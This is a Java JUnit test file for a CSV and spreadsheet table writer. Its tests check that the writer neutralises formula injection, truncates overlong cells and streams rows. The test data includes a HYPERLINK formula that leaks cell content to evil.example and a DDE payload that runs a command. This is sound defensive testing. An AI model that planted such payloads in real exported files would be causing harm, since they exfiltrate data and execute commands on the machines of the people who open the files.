package no.samspill.formats.tables;

import static no.samspill.formats.tables.TableFileTest.table;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import no.samspill.formats.tables.TableCell.Figure;

import org.apache.commons.compress.archivers.zip.ZipFile;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;

class TableWriterTest {

    private static final List<String> HEADER = List.of("Navn", "Verdi", "Gyldig fra");

    private static final List<String> FORMULAS =
            List.of(
                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klikk\")",
                    "=cmd|'/c calc'!A0",
                    "+1+1",
                    "-2+3",
                    "@SUM(1+1)",
                    "＝1+1",
                    "'=1+1");

    private static byte[] csv(List<List<TableCell>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter writer = TableWriter.csv(out, HEADER)) {
            rows.forEach(writer::row);
        }
        return out.toByteArray();
    }

    private static byte[] workbook(List<List<TableCell>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter writer = TableWriter.workbook(out, "Virksomheter", HEADER)) {
            rows.forEach(writer::row);
        }
        return out.toByteArray();
    }

    private static List<List<TableCell>> rows(List<String> texts) {
        return texts.stream()
                .map(text ->
                        List.<TableCell>of(
                                TableCell.of(text),
                                new Figure(new BigDecimal("-2.50")),
                                TableCell.of(LocalDate.of(2024, 1, 1))))
                .toList();
    }

    @Test
    void writesCsvInWhichNoTextIsAFormula() throws IOException {
        String text = new String(csv(rows(FORMULAS)), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFFNavn,Verdi,Gyldig fra\r\n");
        for (String line : text.substring(1).split("\r\n", -1)) {
            assertThat(line).doesNotContainPattern("^\"?[=+\\-@\\t＝]");
        }
    }

    @Test
    void leavesANegativeNumberANumber() throws IOException {
        String text = new String(csv(rows(List.of("x"))), StandardCharsets.UTF_8);
        assertThat(text).endsWith("x,-2.50,2024-01-01\r\n");
    }

    @Test
    void protectsTextsThatBeginWithATabOrACarriageReturn() throws IOException {
        String text =
                new String(csv(rows(List.of("\t=1+1", "\r=1+1", "\n=1"))), StandardCharsets.UTF_8);
        assertThat(text).contains("'\t=1+1").contains("\"'\r=1+1\"").contains("\"'\n=1\"");
    }

    @Test
    void readsBackWhatItWrote() throws IOException {
        for (byte[] file : List.of(csv(rows(FORMULAS)), workbook(rows(FORMULAS)))) {
            Table table = table(TableFileTest.read("t", file));
            assertThat(table.columns()).extracting(Table.Column::name).isEqualTo(HEADER);
            assertThat(table.rows())
                    .extracting(row -> row.cells().getFirst())
                    .containsExactlyElementsOf(FORMULAS);
            assertThat(table.rows())
                    .extracting(row -> row.cells().get(2))
                    .containsOnly("2024-01-01");
        }
    }

    @Test
    void writesWorkbooksWithoutAFormula() throws IOException {
        byte[] file = workbook(rows(FORMULAS));
        String sheet = part(file, "xl/worksheets/sheet1.xml");
        assertThat(sheet).doesNotContain("<f>").doesNotContain("<f ").contains("inlineStr");
        assertThat(sheet).contains("<v>-2.50</v>");
    }

    private static String part(byte[] file, String name) throws IOException {
        try (ZipFile zip =
                ZipFile.builder()
                        .setSeekableByteChannel(new SeekableInMemoryByteChannel(file))
                        .get()) {
            return new String(
                    zip.getInputStream(zip.getEntry(name)).readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    void writesTextsThatNoWorkbookCanHold() throws IOException {
        String tooLong = "ø".repeat(40_000);
        String marks = "a\u0000<b>&\"'";
        Table table = table(TableFileTest.read("t", workbook(rows(List.of(tooLong, marks)))));
        assertThat(table.rows().get(0).cells().getFirst()).hasSize(32_767).endsWith("…");
        assertThat(table.rows().get(1).cells().getFirst()).isEqualTo("a<b>&\"'");
    }

    @Test
    void sendsRowsOnWhileMoreAreWritten() throws IOException {
        long[] sent = new long[1];
        OutputStream counting =
                new OutputStream() {
                    @Override
                    public void write(int b) {
                        sent[0]++;
                    }
                };
        try (TableWriter writer = TableWriter.workbook(counting, "A", HEADER)) {
            for (var row : rows(java.util.Collections.nCopies(20_000, "en tekst"))) {
                writer.row(row);
            }
            assertThat(sent[0]).isPositive();
        }
    }

    @Test
    void refusesARowThatDoesNotFitTheHeader() throws IOException {
        for (TableWriter writer :
                List.of(
                        TableWriter.csv(new ByteArrayOutputStream(), HEADER),
                        TableWriter.workbook(new ByteArrayOutputStream(), "A", HEADER))) {
            assertThatThrownBy(() -> writer.row(List.of(TableCell.of("x"))))
                    .hasMessageContaining("3 cells");
        }
    }
}
